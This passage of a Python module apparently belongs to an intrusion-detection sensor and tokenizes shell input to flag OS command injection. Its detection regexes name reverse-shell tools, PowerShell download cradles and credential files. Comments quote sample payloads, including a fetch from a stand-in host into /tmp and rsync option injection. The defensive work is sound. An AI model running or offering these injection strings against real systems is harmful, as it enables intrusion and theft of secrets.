"""OS command injection: a POSIX-shell word tokenizer (quotes, escapes, $IFS, braces, globs) and cmd.exe checks."""
from __future__ import annotations

import csv
import functools
import re
from typing import Final

from sensor.detect import shellglob
from sensor.detect.base import Finding
from sensor.detect.shell_words import (CRS4_UNIX_PROSE, CRS4_WIN_SHORT, PROSE, PS_ALIAS, PS_CANDIDATE, PS_FOLLOW, STRONG,
                                       SUBCOMMANDS, WIN, WIN_STRONG, cmdlet_at, ps_candidates)
from sensor.points.decoders import unquote_text

TYPE: Final = "rce"

TRIGGERS_BASE: Final = [
    r"[;|&`\n]", r"\$\(", r"\$\{", r"\$ifs", r"\(\s*\)\s*\{", r"/(?:bin|usr|etc|dev|tmp|proc|sbin|var|opt)/", r"\{[a-z/]+,",
    r"\b(?:for|if)\b", r"%[a-z_]+%", r"\bpowershell\b", r"\bcmd(?:\.exe)?\b", r"\biex\b", r"\binvoke-",
    r"\b[a-z][a-z0-9_.\-]+\s+(?:-{1,2}[a-z]|/[a-z]|[<>]|\S*/)", r"/[^/\s]*[?*\[][^/\s]*/", r"\?\?", r"\*/", r"\w=\w", r"\balias\s", r"\"\"|''", r"^\s*\\[a-z]", r"[<>]\(", r"\$\[", r"\$\(\(", r"[;\n]\s*\.[a-z]", r"\{,", r"bin/", r"^\s*\(\s*\)", r"^\s*['\"`]+\s*[a-z]+\s*['\"`]+\s*$",
    r"^\s*~[+\-]?\d*\s*$", r"!-\d|(?:^|[\s;&|`])!!", r"^\s*-{1,2}[a-z]",
    r"[a-z]\$[@*#?!\d]", r"[a-z]\^[a-z]",
    r"[a-z]['\"][a-z0-9]*['\"][a-z]|(?:^|[\s;|&])['\"][a-z0-9]+['\"][a-z]|[a-z]['\"][a-z0-9]+['\"](?:$|[\s;|&])",  # `w"h"o"am"i`
    r"[a-z]\\[a-z]",  # a backslash inside a word (`c\at`): shell quoting, undone before analysis
    r"\b(?:pip3?|npm|gem|apt(?:-get)?|yum|dnf|brew|cargo|composer|yarn|conda|apk|pacman|zypper|pipx|poetry|bun)\s+(?:install|uninstall|add|remove|update|upgrade|download|exec|run|purge|erase)\b",
]

# at(1) right after a separator: a time specification and the job after it (`;at 2:00 "cmd"`, `;at now + 1 minute`)
_UNKNOWN_PROGRAM: Final = re.compile(r"^[a-z][a-z0-9_.+-]{1,30}$")
_OPTION_ARG: Final = re.compile(r"^-{1,2}[a-z][a-z0-9-]*$")
_TARGET_ARG: Final = re.compile(r"^(?:/[\w.-]+(?:/[\w.-]*)*|\d{1,3}(?:\.\d{1,3}){3}(?:/\d+)?|[a-z][a-z0-9+.-]*://\S+)$")
# Options whose value the program runs as a command (GTFOBins "shell" and "command" entries: tar, ssh, git, rsync, find,
# zip, sort); the value's first word must name a program or a path.
_EXEC_OPTION: Final = re.compile(r"(?:--checkpoint-action=exec=|--use-compress-program[= ]|--to-command[= ]|--rsh[= ]|"
                                 r"-o\s*proxycommand[= ]|\bproxycommand=|\bcore\.(?:sshcommand|pager|editor|fsmonitor)=|"
                                 r"(?:^|\s)-exec\s+|--exec[= ]|--compress-program[= ]|\s-tt\s+|--unzip-command[= ]|"
                                 r"--(?:upload|receive)-pack[= ]|\bext::|-o\s*localcommand[= ]|"  # git/ssh option injection
                                 r"\brsync\s+(?:-\w+\s+)*-e\s+)['\"\s]*([a-z/.][\w/.\-]*)")
# Every text _EXEC_OPTION matches holds one of these: an option's `--`, or the words of the others. Tried at every
# position, its alternation cost `re` ~30 µs on a 130-character URL with a `-` in it (a Referer), matching nothing.
_EXEC_KEYS: Final = ("--", "proxycommand", "localcommand", "-exec", "-tt", "ext::", "rsync", "core.")
# The whole value is options for the program the application runs: `-c CMD` (a shell's command string), or an output
# file where a web server or cron picks it up (`--output=/var/www/html/x.php`: curl/wget argument injection).
_ARG_INJECTION: Final = re.compile(r"^\s*-{1,2}c(?:ommand)?[= ]\s*['\"]?([a-z/][\w/.\-]*)|"
                                   r"^\s*(?:--output(?:-document)?[= ]|--log-file[= ]|-o\s?|-O\s?)['\"]?"
                                   r"(/\S*\.(?:php\d?|phtml|jsp|jspx|aspx?|cgi|sh|py|pl)\b|/var/www/\S*|/etc/cron\S*|\S*/\.ssh/\S*)")
# The whole value is rsync's (or scp's) remote-shell option naming a shell or a downloader instead of ssh: rsync runs
# it (`-e sh -c 'id>/tmp/o' x:/`, `--rsh='bash -c id' h:`); `-e ssh`, `-e "ssh -p 2222"`, `-e NODE_ENV=x` stay options.
_REMOTE_SHELL_OPT: Final = re.compile(r"""^\s*(?:-e|--rsh)[\s=]*['"]?\s*(?:(?:/usr)?(?:/local)?/s?bin/)?"""
                                      r"""(?:sh|bash|dash|zsh|ksh|csh|tcsh|ash|busybox|nc|ncat|netcat|socat|telnet|curl|wget|"""
                                      r"""python[\d.]*|perl|ruby|php|node|powershell|pwsh)(?=$|[\s'"])""")
# Ghostscript opens `%pipe%cmd` (and an OutputFile of `|cmd`) with popen: PostScript or a `-sOutputFile=` argument that
# names a program there runs it (CVE-2023-36664, the -dSAFER bypasses); `%pipe% device docs` names no program.
_GS_PIPE: Final = re.compile(r"""(?:%pipe%|outputfile\s*(?:=|\(|\s)\s*\|)\s*['"]?([a-z/.][\w/.\-]*)""")
# A URL for a downloader, then more words: what follows the URL becomes the downloader's own options.
_URL_THEN_OPTION: Final = re.compile(r"^\s*(?:https?|ftp)://\S+\s+(?=-)")
# Names that are abbreviations or words (`Mexico City | DF`, `GPS | Maps`, `Salt | Hash`): commands only with arguments.
# `host` is also a header's name (SigV4's `X-Amz-SignedHeaders=content-type;host`): bare it only prints its usage.
_ABBREVIATIONS: Final = {"df", "du", "host"} | CRS4_WIN_SHORT | CRS4_UNIX_PROSE
_AT_TIME: Final = re.compile(r"^(?:\d{1,2}(?::\d{2})?(?:am|pm)?|now|midnight|noon|teatime)$")
_ALL: Final = STRONG | WIN

_WIN_FLOW: Final = re.compile(
    r"(?<!\{%)(?<!\{%-)(?<!\{%\s)(?<!\{%-\s)\bif(?:\s*/i)?(?:\s+not)?\s+(?:exist\b|defined\b|errorlevel\b|cmdextversion\b|[^\s(]\S*\s*==|\([^()\s]*\)\s*==|\(?\s*\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S+)|"
    r"\bfor(?:\s*/[a-z]+(?:\s+\"[^\"]*\"|\s+[a-z]:\\\S*)?)*\s+%%?~?\S{1,30}\s+in\s*\(.*\)\s*do\b", re.I | re.S)
# cmd.exe's `if` on a variable, cut where its `==` began: a cookie or parameter *name* (`Cookie: &if /i "%OS%"=="x" calc`
# arrives as the name `&if /i "%OS%"`), or a value ending there.
_WIN_IF_CUT: Final = re.compile(r"^\s*(?:[&|;]{1,2}\s*)?if(?:\s*/i)?(?:\s+not)?\s+\"?%[a-z_]\w{0,30}%\"?\s*$", re.I)
# lwp-request's `GET`/`HEAD`/`POST` (upper case: the names it installs) in command position, fetching a URL into a file
# or into an interpreter (`x;GET http://e.example/s.pl > /tmp/s.pl`); API documentation writes the method before a
# path or a URL, never a redirection into a file after it.
_LWP_REQUEST: Final = re.compile(r"(?:^|[;&|\n`]|\$\()[ \t]*(?:GET|HEAD|POST|lwp-request)[ \t]+(?:-\S+[ \t]+)*(?:https?|ftp)://\S+"
                                 r"(?:[ \t]+-\S+)*[ \t]*(?:>{1,2}[ \t]*(?:[~./$]|[a-z]:\\)|\|[ \t]*(?:(?:/usr)?/bin/)?"
                                 r"(?:(?:ba|z|k|da|c|tc|a)?sh|python[\d.]*|perl|ruby|php|node|tee)\b)")
# A cmdlet (or its alias) that runs a script block: `icm -ScriptBlock {whoami}`, `Start-Job -ScriptBlock { … }`.
# (`(?![^\S\n]*+\n)`: a separator followed through blanks by a newline leaves the match to that newline, which
# reaches the same text; every newline of a long run rescanned the run to its end, quadratic)
_PS_SCRIPTBLOCK: Final = re.compile(r"(?:^|[;|&\n({`])(?![^\S\n]*+\n)\s*(?:icm|invoke-command|sajb|start-job|start-threadjob)\s+"
                                    r"(?:-[a-z]+\s+(?!-)[^\s{}]+\s+)*-scriptblock\s*\{\s*[^\s}]")
_WIN_MISC: Final = re.compile(
    r"%[a-z_][\w()]{0,30}:(?:~-?\d{1,4}(?:,-?\d{1,4})?|[^%=\s]{1,20}=[^%]{0,20})%|%comspec%|"
    r"\biex\s*[(\$'\"]|\|\s*iex\b|\b(?:invoke-expression|new-object\s+(?:system\.)?net\.(?:webclient|sockets)|"
    r"downloadstring|downloadfile|frombase64string|-encodedcommand|-enc\s+[a-z0-9+/=]{8,}|set-executionpolicy|"
    r"add-mppreference)\b|\bcmd(?:\.exe)?\s*/[ck]\b|"
    r"\bpowershell(?:\.exe)?\s+-|\brundll32(?:\.exe)?\s+\S+,", re.I)
# Windows names that support questions and documentation also write (`%appdata% folder`, `C:\Windows\System32`,
# `Get-ChildItem examples`): alone they are words; in a command line (separators, options, a pipe) they are shell.
_WIN_WEAK: Final = re.compile(
    r"%(?:systemroot|systemdrive|windir|programfiles|programdata|appdata|localappdata|temp|tmp|userprofile|homedrive|"
    r"homepath|computername|username|userdomain|path|public|allusersprofile)%|\\windows\\system32\\|c:\\windows\\|"
    r"\b(?:invoke-webrequest|invoke-restmethod|invoke-command|start-process|get-wmiobject|get-ciminstance|get-process|"
    r"get-childitem|get-content|get-itemproperty|set-content|out-file|stop-process|remove-item)\b", re.I)
# A drive or UNC path to a program in command position: right after a separator (alone it is a file name field).
# (a separator start as in _PS_SCRIPTBLOCK)
_WIN_PROGRAM: Final = re.compile(r"[;&|\n](?![^\S\n]*+\n)\s*[\"']?(?:[a-z]:|\\\\[\w.$\-]+)\\[^;&|\n\"'<>]{0,200}?"
                                 r"\.(?:exe|bat|cmd|com|ps1|vbs|hta|scr)\b")
_WIN_CONTEXT: Final = re.compile(r"[;&|`\n]|\s-[a-z]{2,}\b|\$\(|^\s*(?:type|dir|copy|del|more|cd|start|call|echo)\s|"
                                 r"\s(?:[a-z]+://|[a-z]:\\|\\\\)\S|\.(?:ps1|hta|vbs|sct)\b", re.I)
# A record of `Label: value` lines only (crash reports, event logs, service listings); _KV_VALUE takes each value.
_KV_RECORD: Final = re.compile(r"(?:[ \t]*[a-z][\w .()/\-]{0,40}:[ \t][^\n]*(?:\n|$))+")  # (`[ \t]+[^\n]*`: quadratic)
_KV_VALUE: Final = re.compile(r"^[ \t]*[a-z][\w .()/\-]{0,40}:[ \t]+([^\n]*?)[ \t\r]*$", re.M)
# Cheap substring gate for _WIN_MISC and _WIN_WEAK (one of these occurs in every string they can match).
_WIN_KEYS: Final = ("%", "iex", "invoke-", "start-process", "new-object", "download", "frombase64", "-enc", "set-execution",
                    "get-", "add-mppreference", "cmd", "powershell", "\\windows\\", "c:\\windows", "rundll32", "out-file",
                    "set-content", "stop-process", "remove-item")
_SHELLSHOCK: Final = re.compile(r"\(\s*\)\s*\{[^}]*[;}]")
_NAMED_FUNC: Final = re.compile(r"(?:[\w$.]|\bfunction)\s*$")  # text before `() {` ending in a name: a definition or call
# A named shell function whose body pipes or backgrounds (`bomb(){ bomb|bomb& }`): JS/C bodies use `||`, `&&`.
_FORK: Final = re.compile(r"\(\s*\)\s*\{[^}]*?(?<![|&])[|&](?![|&])[^}]*\}")
_SHELLSHOCK_START: Final = re.compile(r"^\s*\(\s*\)\s*\{")
_BIN_PATH: Final = re.compile(r"(?:^|[\s;|&=`(])/?(?:usr/(?:local/)?)?s?bin/[a-z][\w.\-]*")
_DEV_TCP: Final = re.compile(r"/dev/(?:tcp|udp)/|\b(?:bash|sh)\s+-i\s*[>&]|\bnc(?:at)?\s+(?:-\w+\s+)*-e\s|\bmkfifo\s|\b0<&\d")
_IFS: Final = re.compile(r"\$\{ifs(?:[^}]*)\}|\$ifs(?:\$\d|\b)?", re.I)
_DEFAULT: Final = re.compile(r"\$\{[a-z_][a-z0-9_]*:?[-=]([\"']?)([^{}$\"']*)\1\}")
_PATHVAR: Final = re.compile(r"\$\{(?:path|home|pwd|shell|oldpwd)\s*:\s*0\s*:\s*1\}", re.I)
_POSITIONAL: Final = re.compile(r"\$(?:[@*#?!\d]|\{[@*#?!\d]\})")
# Inside a word, `$()`, `$-`, `$_`, `${}`, one-letter and braced (`c${u}at`) unset variables expand to nothing.
_EMPTY_VAR: Final = re.compile(r"(?<=[a-z])\$(?:\(\)|\{\}|[-_]|([a-z])(?![a-z0-9_])|\{([a-z_][a-z0-9_]{0,15})\}(?=[a-z]))|\$\(\)")
_DOLLAR_QUOTE: Final = re.compile(r"\$(?=['\"])")
# `name=value` assignments (value quoted, escaped or bare) whose later `$name` / `${name}` the shell substitutes.
_ASSIGN: Final = re.compile(r"(?:^|[;&|\s`(])([a-z_][a-z0-9_]{0,30})=('[^']*'|\"[^\"]*\"|(?:\\.|[^\s;&|`\\])*)")
_ESCAPED: Final = re.compile(r"\\(.)")  # a backslash and the character it quotes
_VAR_USE: Final = re.compile(r"\$\{([a-z_][a-z0-9_]{0,30})\}|\$([a-z_][a-z0-9_]*)")  # what _substitute expands
_VAR_WORD: Final = re.compile(r"^\$\{?([a-z_][a-z0-9_]*)\}?$")
_WORD_VAR: Final = re.compile(r"\$\{[a-z_][a-z0-9_]*\}|\$[a-z_][a-z0-9_]*")
_WIN_SWITCH: Final = re.compile(r"^([a-z][\w.\-]*)/[a-z?]{1,3}$")
_PKG_MANAGERS: Final = {"pip", "pip3", "npm", "gem", "apt", "apt-get", "yum", "dnf", "brew", "cargo", "composer", "yarn",
                        "conda", "apk", "pacman", "zypper", "pipx", "easy_install", "poetry", "bun"}
_PKG_VERBS: Final = {"install", "uninstall", "add", "remove", "update", "upgrade", "download", "exec", "run", "purge", "erase"}
_SHELLS: Final = {"sh", "bash", "zsh", "ksh", "dash", "csh", "tcsh", "ash", "rc", "busybox", "su", "sudo"}
# Programs that are words of every text about code (`git log --oneline` in a search, `svnadmin|git lfs|large files`):
# commands only where a separator on the same line puts them (`x|git config --list`, `a; mount -o remount,rw /`).
_AFTER_SEPARATOR: Final = {"git", "mount"}
# (not a backtick: `use `git status` first` is a Markdown code span far more often than a substitution)
_CHAIN_SEPS: Final = (";", "|", "||", "&&", "&", "$(")
_TILDE: Final = re.compile(r"^\s*~(?:[+\-]\d*|0+)\s*$")
# `!!`, `!-2` are history events; `!!!` is an exclamation
_HISTORY: Final = re.compile(r"(?:^|[\s;&|`]|\$\()!(?:-\d+(?=$|[\s;&|!`)])|!(?=$|[\s;&|`)]))")
# `${SHELL} -c …`, `$EDITOR -x`: a variable that names a program, run with options
_VAR_COMMAND: Final = re.compile(r"^\s*\$\{?(?:shell|bash|sh|editor|visual|pager|browser|0)\}?\s+-{1,2}[a-z]")
# (also the head alone, named in a sentence: `data:image/png;base64 in css background`; `;base64 -d /etc/passwd` or
# a path after it stays a command)
_DATA_URI_HEAD: Final = re.compile(r"(?<![\w.-])data:[a-z]+/[a-z0-9.+\-]+(?:;[a-z0-9\-]+=[^;,\s]*)*;base64"
                                   r"(?:,|(?=[ \t]*$|(?:[ \t]+[a-z0-9][\w\-]*[.,!?]?)+[ \t]*$))", re.M)
_TITLE: Final = re.compile(r"^[ \t]*[a-z][a-z0-9]*(?:\.exe)?[ \t]+[a-z]{2,}[ \t]*$")  # `ansible-vault x`: compound names are tools
# Where programs are run from: an absolute path of two or more parts, a `bin`/`sbin` folder, `./`, `../`, or any
# path spelled with globs (`/???/c?t`); the last part names the program.
_PROGRAM_PATH: Final = re.compile(r"^(?:/[^/]*/.*|(?:[^/]*/)*s?bin/[^/]+|\.{1,2}/.*|.*[?*\[].*)$")
_GROUP: Final = re.compile(r"\{[^{};\n&|]*[;\n&|][^{}]*\}|\{[^{}]*$")  # a `{ …; }` command group (or one left open)
_PLAIN_EXPANSION: Final = re.compile(r"\$\{([a-z_][a-z0-9_.]*)\}")
_SHELL_ENV: Final = {"path", "home", "shell", "pwd", "oldpwd", "user", "ifs", "ps1", "ps4", "bash", "bash_env", "env",
                     "ld_preload", "hostname", "uid", "euid", "random", "histfile", "term"}
_NUMBER_ARG: Final = re.compile(r"^\d{1,6}(?:[.:]\d{1,4})?[smhd]?$")
_PREFIX_CMDS: Final = {"time", "nohup", "sudo", "xargs", "env", "exec", "timeout", "nice", "strace", "watch", "busybox", "doas"}
# Characters words() treats specially; everything else is copied into the current word in runs.
_PLAIN: Final = re.compile(r"[^\\\"' \t\r\x0b\x0c,+<>$;|&\n`(){}]+")
_SEPS: Final = (";", "|", "&", "\n", "`", "(", ")", "{", "}")


def _expand_braces(pre: str, body: str, post: str) -> str:
    return " ".join(pre + x + post for x in body.split(",") if (pre + x + post).strip())


# a comma before the first blank, by lookahead (`[^{}\s]*,[^{}]*` split a long comma run every way)
_BRACE_BODY: Final = re.compile(r"\{((?=[^{}\s]*,)[^{}]*)\}")
_WORD_RUN: Final = re.compile(r"[^\s{},;|&]*")
_NOT_WORD: Final = frozenset("{},;|&")


def brace_spans(s: str, first_only: bool = False) -> list[tuple[int, int, str, str, str]]:
    r"""(start, end, prefix, body, suffix) of each `pre{a,b}post` word, left to right without overlap: what
    `([^\s{},;|&]*)\{([^{}\s]*,[^{}]*)\}([^\s{},;|&]*)` finds, in linear time. (That pattern's unanchored leading
    run made `re` retry from every character of a long word: 300 µs on 700 characters of XML.) A match's prefix
    is the whole word run before its brace, back to where the previous match ended."""
    out: list[tuple[int, int, str, str, str]] = []
    pos, n = 0, len(s)
    while pos < n:
        m = _BRACE_BODY.search(s, pos)
        if m is None:
            break
        j = i = m.start()
        while i > pos and not (s[i - 1].isspace() or s[i - 1] in _NOT_WORD):
            i -= 1
        k = m.end()
        wm = _WORD_RUN.match(s, k)
        e = wm.end() if wm is not None else k
        out.append((i, e, s[i:j], m.group(1), s[k:e]))
        if first_only:
            break
        pos = e
    return out


def _expand_all_braces(s: str) -> str:
    parts: list[str] = []
    last = 0
    for i, e, pre, body, post in brace_spans(s):
        parts.append(s[last:i])
        parts.append(_expand_braces(pre, body, post))
        last = e
    parts.append(s[last:])
    return "".join(parts)


def _drop_empty_var(m: re.Match) -> str:
    """`c$u\at`, `c${u}at`: a variable inside a word vanishes unless the letters before it are another variable's
    name (`$a$b`, whose values `_substitute` fills in later)."""
    s, i = m.string, m.start()
    while i > 0 and (s[i - 1].isalnum() or s[i - 1] in "_{}"):
        i -= 1
    return m.group() if i > 0 and s[i - 1] == "$" else ""


# `~+/` and `~-/` begin a path in $PWD and $OLDPWD (a directory elsewhere); the tokenizer would split at the `+`.
_TILDE_DIR: Final = re.compile(r"(?<![\w~])~([+\-])/")


def normalize(s: str) -> str:
    """Undo the usual shell-level evasions so that words read as the shell would run them."""
    s = s.lower()
    if "$" in s:
        s = _DOLLAR_QUOTE.sub("", s)
        s = _IFS.sub(" ", s)
        if "${" in s:
            s = _DEFAULT.sub(r"\2", s)  # `${x:-cat}` is `cat` where x is unset (and `${PORT:-8080}` is 8080)
        s = _PATHVAR.sub("/", s)
        s = _POSITIONAL.sub("", s)
        s = _EMPTY_VAR.sub(_drop_empty_var, s)
    if "{" in s and "," in s:
        s = _expand_all_braces(s)
    if "~" in s:
        s = _TILDE_DIR.sub(lambda m: "./" if m.group(1) == "+" else "../", s)  # `cat ~+/config.php`: in $PWD
    return s


def words(s: str, limit: int = 400) -> list[tuple[str, str]]:
    """Split into (separator-before, word) pairs, joining quoted and escaped parts as the shell does."""
    plain = s.replace(" ", "")
    if plain.isascii() and plain.isalpha():
        # Letters and blanks only (prose, a list of names): scan_words would give the first word "^" and the others
        # no separator, nothing else (tests/detect/test_tokenizer_shortcuts.py compares)
        split = s.split()
        return [("^" if k == 0 else "", w) for k, w in enumerate(split[:limit] if len(split) > limit else split)]
    return scan_words(s, limit)


def scan_words(s: str, limit: int = 400) -> list[tuple[str, str]]:
    """words' general path: quotes, escapes, separators and redirections, character by character."""
    out: list[tuple[str, str]] = []
    cur: list[str] = []
    pending = "^"
    i, n = 0, len(s)
    quoted = False

    def flush() -> None:
        nonlocal cur, pending, quoted
        if cur or quoted:
            out.append((pending, "".join(cur)))
            pending = ""
        cur = []
        quoted = False

    plain = _PLAIN.match
    hashes = "#" in s
    while i < n and len(out) < limit:
        if hashes and s[i] == "#" and not cur and not quoted and i > 0 and s[i - 1] in " \t\n":
            # a comment runs to the end of the line (`x'; sleep 5 #'`, a PHP trace's `\n#0 /var/www/index.php(3): …`);
            # a leading `#59;` is an entity's remains
            j = s.find("\n", i)
            i = n if j < 0 else j
            continue
        m = plain(s, i)
        if m is not None:  # a run of ordinary characters: one step instead of one per character
            cur.append(m.group())
            i = m.end()
            continue
        c = s[i]
        if c == "`" and s.startswith("``", i):
            i += 2  # an empty substitution expands to nothing: `who``ami` runs whoami
            continue
        if c == "\\":
            if i + 1 < n and s[i + 1] != "\n":
                cur.append(s[i + 1])
            i += 2
            continue
        if c == "'" and cur and i + 1 < n and s[i + 1].isalpha() and s.find(c, i + 1) < 0:
            # `I'd say`, `it's`: an apostrophe in a contraction (the shell would refuse the unterminated quote);
            # the letters on either side stay apart instead of making `id`
            flush()
            i += 1
            continue
        if c == '"' or c == "'" and s.find(c, i + 1) < 0:
            # double quotes do not stop `...`/$(...) from running; an unterminated quote is just noise
            quoted = True
            i += 1
            continue
        if c == "'":
            j = s.find(c, i + 1)
            cur.append(s[i + 1:j])
            quoted = True
            i = j + 1
            continue
        if c in " \t\r\x0b\x0c,+":
            flush()
            i += 1
            continue
        if c in "<>":
            flush()
            j = i
            while j < n and s[j] in "<>&0123456789":
                j += 1
            i = max(j, i + 1)
            if not pending:
                pending = "<"
            continue
        if c == "$" and i + 1 < n and s[i + 1] == "(":
            flush()
            pending = "$("
            i += 2
            continue
        if c == "(" and cur and not quoted:
            cur.append("(")  # `init(`, `system(`: a name touching its parenthesis is a call in code, never a command
            flush()
            pending = "("
            i += 1
            continue
        if c == "(" and pending in (";", "|", "||", "&&", "&", "\n", ";;"):
            flush()  # `; (id)`: the subshell still follows the `;`, which is what places it in command position
            i += 1
            continue
        if c in _SEPS:
            flush()
            two = s[i:i + 2]
            if two in ("||", "&&", ";;"):
                pending = two
                i += 2
            else:
                pending = c
                i += 1
            continue
        cur.append(c)
        i += 1
    flush()
    return out


# Tool families; the ones whose name is also an English word (`salt & vinegar`, `AA batteries`) only with a suffix.
_FAMILY: Final = re.compile(r"^(?:ansible|terraform|gcloud|kubeadm|kubelet)(?:-[a-z]+)?$|"
                            r"^(?:chef|knife|salt|aa|helm|vault|consul|nomad|packer)-[a-z]+$")
_VERSIONED: Final = re.compile(r"^(python|perl|ruby|php|lua|node|pip|gcc|g\+\+|clang|java|tclsh|bash|zsh)[\d.\-]+$")


def _substitute(s: str) -> str:
    """Expand `$name` / `${name}` for variables assigned earlier in the same value (`c=ca;d=t;$c$d /etc/passwd`)."""
    env: dict[str, str] = {}
    for n, m in enumerate(_ASSIGN.finditer(s)):
        if n >= 64:  # bound the work per value
            break
        v = m.group(2)
        if v[:1] in ("'", '"') and len(v) >= 2:
            v = v[1:-1]
        else:
            v = _ESCAPED.sub(r"\1", v)
        env[m.group(1)] = v
    if not env:
        return s

    def expand(m: re.Match) -> str:
        braced = m.group(1)
        if braced is not None:
            return env.get(braced, m.group())
        word = m.group(2)
        for k in range(min(len(word), 31), 0, -1):  # the longest variable the word starts with: `$a10` is $a10, else $a1 + "0"
            if word[:k] in env:
                return env[word[:k]] + word[k:]
        return m.group()
    # (one fixed pattern: a regex of this value's names cost a compile, 200-700 µs, for every value that assigns)
    return _VAR_USE.sub(expand, s)


def _cmd_name(w: str, aliases: dict[str, str] | None = None) -> str | None:
    if not w:
        return None
    if aliases and w in aliases:
        return aliases[w]
    if len(w) > 64:
        return None
    # (a dict, not lru_cache: its wrapper is a generic call from compiled code, ~1,200 instructions against ~100)
    if w in _KNOWN:
        return _KNOWN[w]
    if len(_KNOWN) >= 4096:
        _KNOWN.clear()
    name = _KNOWN[w] = _known_command(w)
    return name


_KNOWN: Final[dict[str, str | None]] = {}  # word -> _known_command(word), see _cmd_name


def _known_command(w: str) -> str | None:
    """The command a word names (path, version suffix, .exe, glob, unset variables and cmd.exe switches undone)."""
    if "$" in w and w[0] != "$":
        # an unset variable inside a word expands to nothing: sh$x, wh${u}oami
        bare = _WORD_VAR.sub("", w)
        if bare != w and bare and "$" not in bare:
            return _cmd_name(bare)
    if "/" in w and w[0] != "/":
        m = _WIN_SWITCH.match(w)  # cmd.exe reads `dir/s`, `bcdboot/r` as command + switch
        if m and m.group(1) in WIN:
            return m.group(1)
    if "/" in w and not _PROGRAM_PATH.match(w):
        return None  # `/ps`, `ab/ls`: no program lives there (base64 tokens are full of `/word+`)
    base = w.rsplit("/", 1)[-1] if "/" in w else w
    m = _VERSIONED.match(base)
    if m:
        return m.group(1)
    if _FAMILY.match(base):
        return "ansible"
    if "\\" in base:
        base = base.rsplit("\\", 1)[-1]
    if base.endswith(".exe") and base[:-4] in _ALL:
        return base[:-4]
    if base in _ALL:
        return base
    if "/" not in w and base[:1] == "*" and (len(base) >= 7 or base[:2] == "**") and base.lstrip("*").isalnum():
        # `*Release 2.31.0*`, `**To Reproduce**`: Markdown emphasis; a bare glob expands against the working folder,
        # not PATH (`*whoami`, a name after the stars, still reads as that name)
        return base.lstrip("*") if base.lstrip("*") in _ALL else None
    if ("?" in base or "*" in base or "[" in base) and ("/" in w or len(base) >= 4) and (
            sum(c.isalpha() for c in base) >= 2 or "/" in w and base.strip("*") and _bin_dir(w.rsplit("/", 1)[0])) and \
            not (base[0] == "[" and "/" not in w and _BRACKETS_ONLY.fullmatch(base)):
        # (bracket expressions alone, `[a-z]` from a regex `[a-z]+|nvme…`, Overpass QL's `[out:json][timeout:25]`,
        # spell no letter of a name: one character each, any of a set -- `w`, `su`)
        return _glob_command(base)
    return None


_BRACKETS_ONLY: Final = re.compile(r"(?:\[[^\]]+\])+")
_BIN_DIRS: Final = ("/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin", "/usr/local/sbin")
_BIN_DIR_NAMES: Final = shellglob.Names(_BIN_DIRS)


def _bin_dir(d: str) -> bool:
    """A directory spelled (maybe with globs) as one of the places programs live."""
    return d[:1] == "/" and "*" not in d and _BIN_DIR_NAMES.first_match(d) is not None


_STRONG_NAMES: Final = shellglob.Names(STRONG)


@functools.lru_cache(maxsize=1024)
def _glob_command(pattern: str) -> str | None:
    """The first known command, in sorted order, a glob (`c?t`, `wh*i`) matches (see shellglob: no regex per glob)."""
    return _STRONG_NAMES.first_match(pattern)


_SENSITIVE_ARG: Final = re.compile(r"^/(?:etc|bin|usr|tmp|dev|proc|var|home|root|sbin|opt|sys|boot|lib|windows)\b", re.I)
_WEAK_ARG: Final = re.compile(r"^(?:/[a-z0-9_.\-]+/|\.{1,2}/|[a-z0-9_.\-]+\.(?:sh|py|pl|php|rb|txt|log|conf|cfg|ini|gz)$)", re.I)
_SHELLISH_ARG: Final = re.compile(r"^(?:-{1,2}[a-z0-9]|[a-z]:(?:[\\/ ]|$)|hk(?:lm|cu|cr|cc)|hkey_|[a-z]{1,8}=/|/(?:etc|bin|usr|tmp|dev|proc|var|home|root|sbin|opt|sys|boot|lib|windows)\b|"
                                  r"/[a-z]$|[a-z]+://|\.{1,2}/.|~/|\$|\d+\.\d+\.\d+\.\d+|/\S*[?*\[]|(?:passwd|shadow|id_rsa|authorized_keys|\.bash_history|\.ssh|sudoers|crontab)$|[a-z0-9_.\-]+\.(?:sh|py|pl|php|rb|elf|bin|txt|log|conf|cfg|ini|exe|bat|ps1)$|"
                                  r"/[a-z0-9_.\-]+/)", re.I)


# Files of secrets an application or a user keeps beside their code or at home: environment files, credentials of git,
# package registries, clouds and databases, shell histories, ssh keys.
_SECRET_FILE: Final = re.compile(r"^(?:[\w.~+\-]*/)*\.(?:env(?:\.[\w\-]+)?|htpasswd|netrc|pgpass|npmrc|pypirc|git-credentials|my\.cnf|"
                                 r"(?:bash|zsh|sh|mysql|psql|python|node_repl)_history|aws/(?:credentials|config)|"
                                 r"docker/config\.json|kube/config|ssh/[\w.\-]+|git/config|gnupg/[\w.\-]+)$")



# A list of technologies (a CV's skills, a job ad's stack): names, versions and notes in parentheses separated by `;`,
# `,`, `&` or a spaced `/`. To a shell `,` and `/` join words and `(` after a word is a syntax error, so the items are no
# command lines; the programs among them must read as names (a product, a language, a capitalised word), never as a
# probe, a Windows program, a state change, or a program given an operand (`x; sleep 5; y`, `a & calc & b`, `rm logs`).
_TECH_LIST_RULES: Final = {"rce:chained_command", "rce:command_terminated", "rce:leading_separator", "rce:command_line",
                           "rce:bare_command"}
_TECH_CHARS: Final = re.compile(r"^[A-Za-z0-9 .,;/&()+#\-]{1,400}$")
_TECH_SPLIT: Final = re.compile(r"[;,()&]|\s/\s")
_TECH_NAME: Final = re.compile(r"^(?:\.?[a-z][\w.+#\-]*|[a-z][\w+#\-]*(?:/[\w+#\-]+)+)$", re.I)
_TECH_VERSION: Final = re.compile(r"^v?\d{1,4}(?:[./]\d{1,4}){0,2}[a-z]?$", re.I)


def _tech_list(value: str) -> bool:
    if not _TECH_CHARS.match(value) or value.count("(") != value.count(")"):
        return False
    items = [i.split() for i in _TECH_SPLIT.split(value) if i.strip()]
    if len(items) < 3:
        return False
    plain = 0
    for item in items:
        if len(item) > 4 or not all(_TECH_NAME.match(t) or _TECH_VERSION.match(t) for t in item):
            return False
        head = item[0]
        c = _cmd_name(head.lower()) if not _TECH_VERSION.match(head) else None
        if c is None:
            plain += 1
            continue
        if c in _LANGUAGE_SHELLS and head[:1].isupper() and len(item) == 1:
            continue  # `Bash`, `PowerShell`: a scripting language named as a skill
        if c in _PROBES or c in WIN_STRONG or \
                c in _SYSTEM_STATE or c in WIN and c not in PROSE and c not in _NOUN_TOOLS or \
                c in STRONG and c not in PROSE and c not in _NOUN_TOOLS:
            return False
        for t in item[1:]:
